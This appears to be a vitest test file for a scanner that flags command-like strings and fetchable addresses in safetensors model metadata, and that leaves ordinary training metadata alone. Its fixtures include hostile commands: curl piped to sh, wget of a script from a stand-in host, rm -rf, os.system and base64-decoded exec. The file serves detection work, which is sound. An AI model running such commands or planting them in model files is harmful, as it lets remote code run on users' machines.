import { describe, expect, it } from 'vitest';
import { bfloat16, safetensorsFile } from '../../fixtures/scan/safetensors-maker.ts';
import { bytesSource } from '#engine/scan/byte-source.ts';
import { scanFile } from '#engine/scan/scan-file.ts';

function rulesFor(metadata: Record<string, string>): string[] {
  const file = safetensorsFile([bfloat16('weight', 4, 4)], metadata);
  return scanFile('model.safetensors', bytesSource(file), { extent: 'all' }).findings.map(({ rule }) => rule);
}

describe('metadata of safetensors', () => {
  it.each([
    { info: "import os; os.system('id')" },
    { setup: 'rm -rf /tmp/x && wget http://a.example/s.sh' },
    { cleanup: 'chmod 777 /tmp/x' },
    { hook: 'curl https://a.example/i | sh' },
    { run: '/bin/sh -c id' },
    { hidden: String.raw`\x48\x65\x6c\x6c\x6f\x20` },
    { encoded: "exec(base64.b64decode('cHJpbnQoKQ=='))" },
  ])('finds what reads like a command: %o', (metadata) => {
    expect(rulesFor(metadata)).toEqual(['safetensors.command-in-metadata']);
  });

  it.each([
    { callback_url: 'http://a.example/x' },
    { download_url: 'https://a.example/payload' },
    { webhook: 'https://a.example' },
  ])('finds an address that asks to be fetched: %o', (metadata) => {
    expect(rulesFor(metadata)).toEqual(['safetensors.address-in-metadata']);
  });

  it('leaves alone what training tools write', () => {
    const metadata = {
      format: 'pt',
      'modelspec.architecture': 'stable-diffusion-xl-v1-base/lora',
      'modelspec.license': 'https://example.org/licence.txt',
      'modelspec.description': 'Import this adapter, then evaluate (see the card); compiled for GPUs.',
      ss_training_comment: 'run 4: rm noisy captions, evaluate later',
      ss_network_args: '{"conv_dim": "4", "algo": "lora"}',
      ss_bucket_info: '{"buckets": {"0": {"resolution": [1024, 1024], "count": 12}}}',
      ss_tag_frequency: '{"1_cat": {"a cat": 12, "wget style": 1}}',
      sshs_model_hash: 'f00dfeed'.repeat(8),
      url: 'https://example.org/model',
    };
    expect(rulesFor(metadata)).toEqual([]);
  });
});
